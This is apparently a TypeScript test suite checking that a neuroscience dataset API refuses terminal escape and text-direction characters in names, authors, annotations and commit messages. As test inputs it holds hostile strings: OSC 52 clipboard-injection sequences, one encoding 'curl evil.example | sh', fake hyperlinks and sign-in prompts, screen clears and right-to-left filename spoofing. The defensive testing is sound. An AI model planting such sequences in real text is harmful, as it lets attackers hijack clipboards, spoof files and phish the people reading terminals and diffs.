/**
 * The API refuses terminal and text-direction controls in what other people's tools print and nds's mails
 * quote: a dataset's name, keywords, license and authors, and annotations' labels and HED strings (a description,
 * an annotation's note and a commit message keep their line breaks and tabs). A HED string is written into the
 * export and the dataset's own `_events.tsv`, a commit message into `CHANGES` and the git history: files every
 * reader downloads, clones, `cat`s and diffs. Clients escape such text too (test/cli/terminal-text.test.ts);
 * this is the other half.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createBrowserSession, type TestAccount } from '../support/accounts.js';
import { startTestServer, type TestServer } from '../support/test-server.js';
import { createUploader, json } from './support.js';
import { uploadedDataset } from '../annotations/support.js';

const send = (method: string, body?: unknown): RequestInit => ({ method, body: body === undefined ? undefined : JSON.stringify(body) });

describe('control characters in dataset fields and annotation text', { timeout: 120_000 }, () => {
  let server: TestServer;
  let owner: TestAccount;
  let id: string;
  let recording: string;

  before(async () => {
    server = await startTestServer();
    owner = await createUploader(server);
    ({ id, recording } = await uploadedDataset(server, owner));
  });
  after(() => server?.close());

  async function refused(res: Response, field: string): Promise<void> {
    const body = await json<{ error: string; details: string[] }>(res, 400);
    assert.equal(body.error, 'validation_failed');
    assert.ok(body.details.some((d) => d.startsWith(field) && /control or text-direction character/.test(d)), JSON.stringify(body.details));
  }

  it('a new dataset\'s name with ESC, CR, a newline or U+202E is refused', async () => {
    for (const name of ['EEG\x1b]52;c;eA==\x07', 'EEG\rrest', 'EEG rest\nThe dataset: https://evil.example', 'EEG \u202efdp.exe', 'EEG\u0085rest']) {
      await refused(await owner.api('/datasets', send('POST', { name })), 'name');
    }
  });

  it('an edit with controls in keywords, license or authors is refused, and changes nothing', async () => {
    const before = await json<{ keywords: string[]; license: string | null; authors: string[] }>(await owner.api(`/datasets/${id}`), 200);
    await refused(await owner.api(`/datasets/${id}`, send('PATCH', { keywords: ['eeg', 'rest\x1b[2J'] })), 'keywords');
    await refused(await owner.api(`/datasets/${id}`, send('PATCH', { license: 'CC0\x9b1m' })), 'license');
    await refused(await owner.api(`/datasets/${id}`, send('PATCH', { authors: ['Ada \u2067Lovelace\u2069'] })), 'authors');
    const after = await json<typeof before>(await owner.api(`/datasets/${id}`), 200);
    assert.deepEqual({ keywords: after.keywords, license: after.license, authors: after.authors }, { keywords: before.keywords, license: before.license, authors: before.authors });
  });

  it('a description keeps its line breaks and tabs, but not ESC or a lone CR', async () => {
    const description = 'Resting state.\n\nChannels:\tC3, C4\r\nSampled at 256 Hz.';
    const saved = await json<{ description: string }>(await owner.api(`/datasets/${id}`, send('PATCH', { description })), 200);
    assert.equal(saved.description, description);
    await refused(await owner.api(`/datasets/${id}`, send('PATCH', { description: 'Resting\rPlease sign in again' })), 'description');
    await refused(await owner.api(`/datasets/${id}`, send('PATCH', { description: 'Resting \x1b]8;;https://evil.example\x1b\\here' })), 'description');
  });

  it('an annotation label with controls is refused; a plain one is kept', async () => {
    await refused(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ path: recording, onset: 0.1, duration: 0, label: 'spike\x1b]52;c;eA==\x07' }])), '0.label');
    await refused(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ path: recording, onset: 0.1, duration: 0, label: 'eyes \u202edesolc' }])), '0.label');
    await json(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ path: recording, onset: 0.1, duration: 0, label: 'eyes closed' }])), 201);
  });

  it("an annotation's HED string, note or commit message with controls is refused; a note and a message keep their line breaks", async () => {
    const mark = { path: recording, onset: 0.2, duration: 0, label: 'blink' };
    await refused(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ ...mark, hed: 'Sensory-event\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07' }])), '0.hed');
    await refused(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ ...mark, hed: '(Item \u202eexe.txt)' }])), '0.hed');
    // A HED string is one line: it is a cell of the events table.
    await refused(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ ...mark, hed: 'Sensory-event,\nVisual-presentation' }])), '0.hed');
    await refused(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ ...mark, note: 'seen \x1b[2J twice' }])), '0.note');
    const hed = 'Sensory-event, (Visual-presentation, (Item, Label/Blink))';
    const note = 'Seen twice.\n\tSecond time: weaker.\r\nCheck with the video.';
    const made = await json(await owner.api(`/datasets/${id}/annotations`, send('POST', [{ ...mark, hed, note }])), 201);
    assert.deepEqual([made.annotations[0].hed, made.annotations[0].note], [hed, note]);
    const aid = made.annotations[0].id as string;
    await refused(await owner.api(`/datasets/${id}/annotations/${aid}`, send('PATCH', { hed: 'Sensory-event\u2066' })), 'hed');
    await refused(await owner.api(`/datasets/${id}/annotations/${aid}`, send('PATCH', { note: 'fine\u009b1m' })), 'note');
    const exported = await (await owner.api(`/datasets/${id}/annotations/export?path=${encodeURIComponent(recording)}`)).text();
    assert.ok(exported.includes(`\t${hed}\t`), exported);

    await refused(await owner.api(`/datasets/${id}/annotations/commit`, send('POST', { message: 'Blinks\x1b]8;;https://evil.example\x1b\\marked' })), 'message');
    await refused(await owner.api(`/datasets/${id}/annotations/commit`, send('POST', { message: 'Blinks \u202edekram' })), 'message');
    const committed = await json(await owner.api(`/datasets/${id}/annotations/commit`, send('POST', { message: 'Blinks marked.\r\n\tBy the lab.' })), 201);
    const manifest = await json(await owner.api(`/datasets/${id}/manifest?version=${committed.version}`), 200);
    const entry = (manifest.files as Array<{ path: string; sha256: string }>).find((f) => f.path === 'CHANGES')!;
    const changes = (await server.deps.objects.readAll(`${id}/objects/${entry.sha256}`))!.toString('utf8');
    assert.match(changes, /^1\.0\.1 \d{4}-\d\d-\d\d\n {2}- Blinks marked\.\n {4}\tBy the lab\.\n/);
    await server.worker!.idle();
  });

  it("the settings page's metadata form refuses them too, and saves nothing", async () => {
    const browser = await createBrowserSession(server, owner.user);
    const before = await json<{ name: string; authors: string[] }>(await owner.api(`/datasets/${id}`), 200);
    const fields = { name: 'EEG\u202efdp.exe', description: 'fine', license: 'CC0', keywords: 'eeg', authors: 'A. Author' };
    for (const hostile of [{ name: 'EEG\u202efdp.exe' }, { authors: 'A. Author\n\x1b]52;c;eA==\x07' }, { keywords: 'eeg, re\x1b[2Jst' }]) {
      const res = await browser.fetch(`/datasets/${id}/settings`, {
        method: 'POST',
        body: new URLSearchParams({ ...fields, name: 'Clean', ...hostile }).toString(),
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        redirect: 'manual',
      });
      assert.equal(res.status, 400, JSON.stringify(hostile));
      assert.match(await res.text(), /control or text-direction character/);
    }
    const after = await json<{ name: string; authors: string[] }>(await owner.api(`/datasets/${id}`), 200);
    assert.deepEqual([after.name, after.authors], [before.name, before.authors]);
  });
});
